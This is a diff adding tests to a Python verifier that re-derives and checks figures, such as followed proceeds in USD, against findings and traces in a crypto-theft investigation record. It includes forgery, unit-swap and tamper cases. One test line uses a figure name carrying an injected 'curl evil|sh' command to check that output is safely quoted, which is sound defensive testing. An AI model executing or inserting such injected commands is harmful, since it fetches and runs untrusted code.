@@ -692,3 +692,77 @@ def test_the_program_prints_nothing_that_a_terminal_would_obey(tmp_path, capsysb
 def test_the_command_it_names_can_be_typed_whatever_a_figure_is_called():
     told = one(FIGURES["instances"] | {"derivation": {}, "figure": "x; curl evil|sh #", "as_of": None})
     assert told.why.endswith("watchkeeper figure show 'x; curl evil|sh #' --case CASE")
+
+
+FINDINGS = [
+    entry("finding", f"f-{n}", trace_id="heist", unit="USD", received=received, followed=followed, usd_cents=None)
+    for n, (received, followed) in enumerate((("250000", "200000"), ("50000", "50000")))
+]
+TRACE = entry("trace", "heist", chain="eip155:1", asset="USD", method="fifo")
+FOLLOWED = figure(
+    "proceeds.followed",
+    {"followed": {"low": "2500", "high": "2500", "unit": "USD"}},
+    {"followed": {"op": "sum", "of": "followed", "unit": "USD", "over": ["f-0", "f-1"]}},
+    claims=[], basis={"held": 0, "cited": 0}, checked={"text": 0, "secondary": 0, "recalled": 0}, trace="heist",
+)  # fmt: skip
+
+
+def traced(log=(*FINDINGS, TRACE), **more):
+    return one(FOLLOWED | more, log=[*LOG, *log])
+
+
+def test_a_sum_over_findings_says_that_a_run_computed_them_and_how_to_run_it_again():
+    told = traced()
+    assert told.verdict == "RE-DERIVED"
+    assert told.why.startswith("it counts or adds up findings, each as a run computed it.")
+    assert told.why.endswith(
+        "from and to what trace heist says: watchkeeper trace run AGAIN --chain eip155:1 --asset USD --method fifo "
+        "--name SET --from SOURCES --to ENDS --reason WHY --case CASE"
+    )
+    assert "--method '?'" in traced(FINDINGS).why  # the trace itself is not shown
+    assert not one(FIGURES["loss"]).why  # claims are what a source says, and nothing computed them
+
+
+def test_the_name_of_a_trace_cannot_make_lines_of_its_own():
+    forged = bundle({"f": FOLLOWED | {"trace": "x\nRE-DERIVED everything"}}, log=[*LOG, *FINDINGS])
+    assert not any(line.startswith("RE-DERIVED everything") for line in verify.lines(verify.check(forged)))
+
+
+def test_what_is_true_of_several_figures_of_a_trace_is_told_once():
+    outcome = verify.check(bundle({"a": FOLLOWED, "b": FOLLOWED}, log=[*LOG, *FINDINGS, TRACE]))
+    told = [line for line in verify.lines(outcome) if "as a run computed it" in line]
+    assert len(told) == 1
+    assert told[0].startswith("a, b: it counts or adds up findings")
+
+
+@pytest.mark.parametrize(
+    ("forged", "why"),
+    [
+        ({"over": ["f-0"]}, "its steps give 2000"),  # a finding left out
+        ({"over": ["f-0", "f-1", "f-1"]}, "something is counted twice"),
+        ({"over": ["f-0", "f-9"]}, "f-9 is named and is not in the record shown"),
+        ({"of": "received"}, "its steps give 3000"),  # what arrived, told as what was followed
+        ({"unit": "ETH"}, "is printed in USD, and its steps are in ETH"),
+    ],
+)
+def test_a_forged_step_over_findings_fails(forged, why):
+    told = traced(derivation={"followed": FOLLOWED["derivation"]["followed"] | forged})
+    assert told.verdict == "FAILED"
+    assert why in told.why
+
+
+def test_units_swapped_in_value_and_step_fail_by_what_the_findings_say():
+    value = {"low": "0.0000000000025", "high": "0.0000000000025", "unit": "ETH"}
+    step = FOLLOWED["derivation"]["followed"] | {"unit": "ETH"}
+    told = traced(value=value, values={"followed": value}, derivation={"followed": step})
+    assert (told.verdict, told.why) == ("FAILED", "f-0 is added up in ETH and is not in that unit")
+
+
+def test_a_finding_whose_amount_was_changed_is_no_longer_in_the_log():
+    files = bundle({"f": FOLLOWED}, log=[*LOG, *FINDINGS, TRACE])
+    held = files["data/record/statements.jsonl"]
+    assert b'"200000"' in held
+    forged = rebagged({**files, "data/record/statements.jsonl": held.replace(b'"200000"', b'"200001"')})
+    outcome = verify.check(forged)
+    assert not outcome.sound
+    assert outcome.faults
